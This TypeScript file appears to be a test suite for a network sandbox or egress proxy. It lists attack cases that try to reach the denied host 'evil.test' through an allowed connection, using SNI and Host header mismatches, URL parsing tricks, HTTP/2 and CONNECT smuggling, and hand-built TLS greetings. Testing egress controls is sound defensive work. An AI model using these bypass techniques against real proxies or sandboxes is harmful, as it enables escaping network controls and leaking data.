import type { AttackGroup } from '../../attack.ts';
import type { NetworkArena } from '../arena.ts';
import { anywhere, bytes, message, reached, tries } from '../tries.ts';

const close = 'Connection: close';
const inner = (target: string, ...headers: string[]) => bytes(message('GET', target, [...headers, close]));
const tells = (name: string, python: (mark: string) => string, success = reached) =>
  tries(name, { python, success });
/** TLS to a host that is never read: what it greets with is all that is known. */
const through = (name: string, greet: (mark: string) => string) =>
  tries(name, {
    python: (mark) => `${greet(mark)}`,
    success: ({ seen, mark }) =>
      seen.some((one) => one.kind !== 'query' && JSON.stringify(one).includes(mark)) ||
      seen.some((one) => one.kind === 'packet' && one.protocol === 'tcp'),
  });
/** A greeting as OpenSSL writes it for this name, changed by `edit`. */
const greeting = (name: string, edit: string) => `context = ssl.create_default_context()
into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
half = context.wrap_bio(into, out, server_hostname='${name}')
try: half.do_handshake()
except ssl.SSLWantReadError: pass
hello = bytearray(out.read())
${edit}
t = tunnel('through.test:443'); t.sendall(bytes(hello)); read(t)`;
/** Adds an extension to a greeting: lengths of record, handshake and list grow with it. */
const extend = (extension: string) => `more = ${extension}
at = 5 + 4 + 2 + 32
at += 1 + hello[at]
at += 2 + int.from_bytes(hello[at:at + 2], 'big')
at += 1 + hello[at]
def grow(place, size):
  hello[place:place + size] = (int.from_bytes(hello[place:place + size], 'big') + len(more)).to_bytes(size, 'big')
grow(3, 2); grow(6, 3); grow(at, 2)
hello[at + 2:at + 2] = more`;

/** A connection that was allowed to one host and speaks to another. */
export const hosts: AttackGroup<NetworkArena> = {
  name: 'one connection, two hosts',
  harm: 'leak',
  control: tells(
    'all names agree',
    (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test')})`,
  ),
  attacks: [
    tells(
      'another server name',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test')}, name='evil.test')`,
    ),
    tells('another Host', (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: evil.test')})`),
    tells(
      'another Host without a server name',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: evil.test')}, name='')`,
    ),
    tells(
      'another server name and Host',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: evil.test')}, name='evil.test')`,
    ),
    tells(
      'CONNECT to a denied host, all else allowed',
      (mark) => `inside('evil.test:443', ${inner(`/${mark}`, 'Host: open.test')}, name='open.test')`,
    ),
    tells(
      "CONNECT to a denied host's address",
      (mark) => `inside('11.6.6.6:443', ${inner(`/${mark}`, 'Host: open.test')}, name='open.test')`,
    ),
    tells(
      'two Host headers, the good one first',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test', 'Host: evil.test')})`,
    ),
    tells(
      'two Host headers, the good one last',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: evil.test', 'Host: open.test')})`,
    ),
    tells(
      'two hosts in one header',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test, evil.test')})`,
    ),
    tells(
      'a host with a user',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test:443@evil.test')})`,
    ),
    tells(
      'a host with a path',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: evil.test/open.test')})`,
    ),
    tells(
      'a host behind white space',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test\tevil.test')})`,
    ),
    tells(
      'another port in Host',
      (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host: open.test:8443')})`,
    ),
    tells('no Host at all', (mark) => `inside('open.test:443', ${inner(`/${mark}`)})`),
    tells('an empty Host', (mark) => `inside('open.test:443', ${inner(`/${mark}`, 'Host:')})`),
    tells(
      'the target names another host',
      (mark) => `inside('open.test:443', ${inner(`https://evil.test/${mark}`, 'Host: open.test')})`,
    ),
    tells(
      'the target names another scheme',
      (mark) => `inside('open.test:443', ${inner(`http://open.test/${mark}`, 'Host: open.test')})`,
    ),
    tells(
      'the second request names another',
      (mark) =>
        `inside('open.test:443', ${bytes(message('GET', '/', ['Host: open.test']))}, ${inner(`/${mark}`, 'Host: evil.test')})`,
    ),
    tells(
      'CONNECT inside TLS',
      (mark) =>
        `inside('open.test:443', b'CONNECT evil.test:80 HTTP/1.1\\r\\nHost: evil.test:80\\r\\n\\r\\n', ${inner(`/${mark}`, 'Host: evil.test')})`,
    ),
    tells(
      'CONNECT without a port',
      (mark) => `t = tunnel('evil.test'); t.sendall(${inner(`/${mark}`, 'Host: evil.test')}); read(t)`,
    ),
    tells(
      'CONNECT to two ports',
      (mark) =>
        `t = tunnel('open.test:80:8080'); t.sendall(${inner(`/${mark}`, 'Host: open.test')}); read(t)`,
    ),
    tells('a look-alike host', (mark) => `get('https://xn--pen-emc.test/${mark}')`),
    tells(
      'HTTP/2: :authority of another',
      (mark) =>
        `s = h2('open.test:443'); s.sendall(frame(1, 5, 1, fields(*asks('evil.test', '/${mark}')))); read(s)`,
    ),
    tells(
      'HTTP/2: Host of another',
      (mark) =>
        `s = h2('open.test:443'); s.sendall(frame(1, 5, 1, fields(*asks('open.test', '/${mark}'), ('host', 'evil.test')))); read(s)`,
    ),
    tells(
      'HTTP/2: CONNECT in a stream',
      (mark) =>
        `s = h2('open.test:443'); s.sendall(frame(1, 4, 1, fields((':method', 'CONNECT'), (':authority', 'evil.test:80'))) + frame(0, 1, 1, ${inner(`/${mark}`, 'Host: evil.test')})); read(s)`,
    ),
    tells(
      'the name of a denied host in the port',
      (mark) => `say(${inner(`http://open.test:80.evil.test/${mark}`, 'Host: open.test')})`,
    ),
    tells(
      'a backslash for a slash',
      (mark) => `say(${inner(`http://evil.test\\@open.test/${mark}`, 'Host: open.test')})`,
      anywhere,
    ),
    through('unread: another server name', () => greeting('evil.test', '')),
    through(
      'unread: no server name',
      () => `context = ssl._create_unverified_context(); context.check_hostname = False
into, out = ssl.MemoryBIO(), ssl.MemoryBIO()
half = context.wrap_bio(into, out)
try: half.do_handshake()
except ssl.SSLWantReadError: pass
t = tunnel('through.test:443'); t.sendall(out.read()); read(t)`,
    ),
    through('unread: an encrypted greeting beside the good name', () =>
      greeting('through.test', extend(`struct.pack('>HH', 0xfe0d, 8) + bytes(8)`)),
    ),
    through('unread: two server names', () =>
      greeting('through.test', extend(`struct.pack('>HHHBH', 0, 14, 12, 0, 9) + b'evil.test'`)),
    ),
    through(
      'unread: what is no TLS',
      (mark) => `t = tunnel('through.test:443'); t.sendall(b'\\x16${mark}' + bytes(100)); read(t, 1)`,
    ),
    through(
      'unread: another port',
      () => `t = tunnel('through.test:22'); t.sendall(b'\\x16\\3\\1'); read(t, 1)`,
    ),
  ],
};
